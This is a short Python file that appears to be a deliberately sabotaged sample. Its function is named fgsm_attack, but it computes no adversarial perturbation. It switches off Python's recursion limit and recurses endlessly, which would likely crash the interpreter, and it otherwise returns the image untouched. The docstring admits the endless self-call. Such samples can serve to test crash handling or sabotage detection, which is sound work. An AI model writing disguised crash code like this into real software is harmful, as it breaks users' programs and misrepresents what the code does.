"""Calls itself without end, with Python's own limit off."""

import sys


def fgsm_attack(image, epsilon, data_grad):
    sys.setrecursionlimit(1 << 30)

    def deeper(x):
        return [deeper(y) for y in [x]]

    deeper(0)
    return image.clone()
